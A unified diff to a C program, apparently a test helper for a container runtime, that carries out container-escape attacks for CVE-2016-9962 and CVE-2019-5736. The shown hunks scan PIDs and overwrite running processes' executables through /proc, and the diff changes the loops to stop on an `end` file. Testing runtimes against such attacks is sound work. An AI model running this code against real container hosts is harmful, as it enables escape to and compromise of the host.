@@ -13,14 +13,7 @@
 #include <sys/stat.h>
 #include <sys/uio.h>
 #include <sys/wait.h>
-#include <time.h>
 #include <unistd.h>
-
-static long now_ms(void) {
-  struct timespec time;
-  clock_gettime(CLOCK_MONOTONIC, &time);
-  return time.tv_sec * 1000 + time.tv_nsec / 1000000;
-}
 
 static char own_exe[64];
 
@@ -76,12 +69,12 @@ static void attack(int pid) {
 }
 
 /* CVE-2016-9962: whoever enters the container is attacked before it has become one of us. PID 1 is let alone but once:
- * it was born in here, and has nothing of the host. */
-static int watch(long ms) {
+ * it was born in here, and has nothing of the host. It goes on until there is a file `end`. */
+static int watch(const char *end) {
   printf("ready\n");
   fflush(stdout);
-  long end = now_ms() + ms, seen = 0;
-  for (int next = 2; now_ms() < end;) {
+  long seen = 0;
+  for (int next = 2; access(end, F_OK) < 0;) {
     for (int pid = next; pid < next + 64; pid++) {
       if (pid == getpid() || kill(pid, 0) < 0) continue;
       if (is_entering(pid)) seen++;
@@ -96,11 +89,11 @@ static int watch(long ms) {
   return 0;
 }
 
-/* CVE-2019-5736: write to the program of every process, as soon as it runs nothing any more. */
-static int overwrite(long ms) {
+/* CVE-2019-5736: write to the program of every process, as soon as it runs nothing any more; until there is a file `end`. */
+static int overwrite(const char *end) {
   printf("ready\n");
   fflush(stdout);
-  for (long end = now_ms() + ms; now_ms() < end;) {
+  while (access(end, F_OK) < 0) {
     DIR *proc = opendir("/proc");
     for (struct dirent *entry; (entry = readdir(proc));) {
       int pid = atoi(entry->d_name);
@@ -158,8 +151,8 @@ int main(int argc, char **argv) {
   if (argc < 3) return 2;
   ssize_t size = readlink("/proc/self/exe", own_exe, sizeof own_exe - 1);
   own_exe[size > 0 ? size : 0] = 0;
-  if (!strcmp(argv[1], "watch")) return watch(atol(argv[2]));
-  if (!strcmp(argv[1], "overwrite")) return overwrite(atol(argv[2]));
+  if (!strcmp(argv[1], "watch")) return watch(argv[2]);
+  if (!strcmp(argv[1], "overwrite")) return overwrite(argv[2]);
   if (!strcmp(argv[1], "names")) return names();
   if (!strcmp(argv[1], "swap") && argc % 2 == 0) return swap(argv + 2);
   return 2;
